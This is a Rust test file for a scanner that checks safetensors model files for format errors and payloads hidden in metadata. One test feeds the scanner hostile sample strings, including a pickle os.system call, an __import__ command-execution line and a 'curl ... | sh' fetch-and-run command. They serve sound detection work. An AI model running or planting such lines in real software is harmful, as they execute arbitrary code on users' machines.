use proptest::prelude::*;

use crate::scan::{FileReport, Format, Limits, Verdict, file};

/// A file with a header as it is given.
fn with(header: &str, data: usize) -> Vec<u8> {
    let mut out = (header.len() as u64).to_le_bytes().to_vec();
    out.extend(header.as_bytes());
    out.resize(out.len() + data, 7);
    out
}

fn scanned(bytes: &[u8]) -> FileReport {
    file(&bytes.to_vec(), "x", &Limits::default())
}

#[test]
fn what_the_reference_reads_is_clean() {
    for (header, data) in [
        ("{}", 0),
        ("{}      ", 0),
        (r#"{"a":{"dtype":"F32","shape":[2,2],"data_offsets":[0,16]}}"#, 16),
        (r#"{"__metadata__":{"format":"pt"},"a":{"dtype":"F32","shape":[],"data_offsets":[0,4]}}  "#, 4),
        (
            r#"{"b":{"dtype":"BF16","shape":[3],"data_offsets":[4,10]},"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}"#,
            10,
        ),
        (
            r#"{"z":{"dtype":"I64","shape":[0,5],"data_offsets":[0,0]},"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}"#,
            1,
        ),
        (
            r#"{"a":{"dtype":"F4","shape":[4],"data_offsets":[0,2]},"b":{"dtype":"F8_E8M0","shape":[1],"data_offsets":[2,3]}}"#,
            3,
        ),
        (r#"{"a":{"dtype":"C64","shape":[1],"data_offsets":[0,8]}}"#, 8),
        (
            r#"{"__metadata__":{"ss_tag_frequency":"{\"a\": {\"b\": 3}}","modelspec.thumbnail":"data:image/jpeg;base64,/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDAAgGBgcGBQgHBwcJ","modelspec.description":"see https://example.com/x.html and os.system"}}"#,
            0,
        ),
    ] {
        let report = scanned(&with(header, data));
        assert_eq!(
            (report.format, report.verdict),
            (Format::Safetensors, Verdict::Clean),
            "{header}: {:?}",
            report.findings
        );
    }
}

#[test]
fn what_breaks_the_format_is_malformed() {
    for (header, data, message) in [
        (r#" {"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}"#, 4, "does not begin with `{`"),
        (r#"{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}} x"#, 4, "is no JSON"),
        (r#"{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}} {}"#, 4, "something follows"),
        (
            r#"{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}"#,
            4,
            "`a` stands twice",
        ),
        (
            r#"{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"b":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}"#,
            4,
            "two tensors",
        ),
        (
            r#"{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"b":{"dtype":"F32","shape":[1],"data_offsets":[2,6]}}"#,
            6,
            "two tensors",
        ),
        (r#"{"a":{"dtype":"F32","shape":[1],"data_offsets":[4,8]}}"#, 8, "belong to no tensor"),
        (r#"{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}"#, 5, "follow the last tensor"),
        (r#"{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}"#, 3, "ends at byte 4"),
        (r#"{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,4]}}"#, 4, "makes 8 bytes"),
        (r#"{"a":{"dtype":"F32","shape":[1],"data_offsets":[4,0]}}"#, 4, "before it begins"),
        (r#"{"a":{"dtype":"F33","shape":[1],"data_offsets":[0,4]}}"#, 4, "`F33` of `a` is not known"),
        (r#"{"a":{"dtype":3,"shape":[1],"data_offsets":[0,4]}}"#, 4, "is not known"),
        (r#"{"a":{"dtype":"F4","shape":[1],"data_offsets":[0,0]}}"#, 0, "whole byte"),
        (r#"{"a":{"dtype":"F32","shape":[4611686018427387904,8],"data_offsets":[0,4]}}"#, 4, "larger than any memory"),
        (r#"{"a":{"dtype":"F32","shape":[-1],"data_offsets":[0,4]}}"#, 4, "no list of whole numbers"),
        (r#"{"a":{"dtype":"F32","shape":[1.0],"data_offsets":[0,4]}}"#, 4, "no list of whole numbers"),
        (r#"{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,18446744073709551616]}}"#, 4, "no list of whole numbers"),
        (r#"{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4,4]}}"#, 4, "not two numbers"),
        (r#"{"a":{"dtype":"F32","shape":[1]}}"#, 4, "lacks its type"),
        (r#"{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4],"x":1}}"#, 4, "no part of the format"),
        (r#"{"a":{"dtype":"F32","dtype":"F32","shape":[1],"data_offsets":[0,4]}}"#, 4, "stands twice"),
        (r#"{"a":[]}"#, 0, "is no object"),
        (r#"{"__metadata__":{"a":1}}"#, 0, "is no text"),
        (r#"{"__metadata__":{"a":"1","a":"2"}}"#, 0, "stands twice"),
        (r#"{"__metadata__":[]}"#, 0, "is no object"),
        (r#"{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}"#, 4, "ends within its JSON"),
        (r#"{"a":{"dtype":"F32","shape":[NaN],"data_offsets":[0,4]}}"#, 4, "is no JSON"),
    ] {
        let report = scanned(&with(header, data));
        assert_eq!(report.format, Format::Safetensors, "{header}");
        assert!(report.verdict >= Verdict::Malformed, "{header}: {:?}", report.findings);
        assert!(report.findings.iter().any(|f| f.message.contains(message)), "{header}: {:?}", report.findings);
    }
    for length in [3_u64, 1000, 100_000_001, u64::MAX] {
        let mut bytes = length.to_le_bytes().to_vec();
        bytes.extend(b"{\"a\":1}");
        let report = scanned(&bytes);
        assert_eq!(
            (report.format, report.verdict),
            (Format::Safetensors, Verdict::Malformed),
            "{length}: {:?}",
            report.findings
        );
    }
}

#[test]
fn descriptions_that_carry_something_are_suspicious() {
    for value in [
        // An empty list, pickled with protocol 4, in base64 and in hexadecimal.
        "gASVBQAAAAAAAABdlGGULg==gASVBQAA",
        "80049505000000000000005d942e",
        "payload: gASVBQAAAAAAAABdlGGULg== end of it",
        "cos\\nsystem\\n(S'id'\\ntR.",
        "__import__('os').system('id')",
        "curl https://example.com/x | sh",
        "https://example.com/run.sh",
        "{% include 'x' %}",
    ] {
        let report = scanned(&with(&format!("{{\"__metadata__\":{{\"a\":\"{value}\"}}}}"), 0));
        assert!(report.verdict >= Verdict::Suspicious, "{value}: {:?}", report.findings);
    }
}

#[test]
fn other_files_are_not_claimed() {
    for text in ["function{ }", "12345678{x", "var abc={\"a\":1}", "module.e{\"a\": 3}"] {
        assert!(!super::claims(text.as_bytes(), &text.as_bytes().to_vec()), "{text}");
    }
}

prop_compose! {
    fn tensors()(shapes in prop::collection::vec((0_usize..KINDS.len(), prop::collection::vec(0_u64..5, 0..4)), 0..8)) -> Vec<u8> {
        let mut end = 0;
        let entries: Vec<String> = shapes.iter().enumerate().map(|(index, (kind, shape))| {
            let (word, bytes) = KINDS[*kind];
            let (from, length) = (end, shape.iter().product::<u64>() * bytes);
            end += length;
            format!("\"t{index}\":{{\"dtype\":\"{word}\",\"shape\":{shape:?},\"data_offsets\":[{from},{end}]}}")
        }).collect();
        with(&format!("{{{}}}", entries.join(",")), usize::try_from(end).unwrap_or(0))
    }
}

const KINDS: &[(&str, u64)] = &[("U8", 1), ("F16", 2), ("F32", 4), ("I64", 8), ("F8_E4M3", 1)];

proptest! {
    #[test]
    fn valid_files_are_clean_and_changed_ones_end(bytes in tensors(), at in any::<prop::sample::Index>(), to in any::<u8>()) {
        let report = scanned(&bytes);
        prop_assert_eq!(report.verdict, Verdict::Clean, "{:?}", report.findings);
        let mut changed = bytes.clone();
        let at = at.index(changed.len());
        changed[at] = to;
        let _ = scanned(&changed);
        let _ = scanned(&bytes[..at]);
    }
}
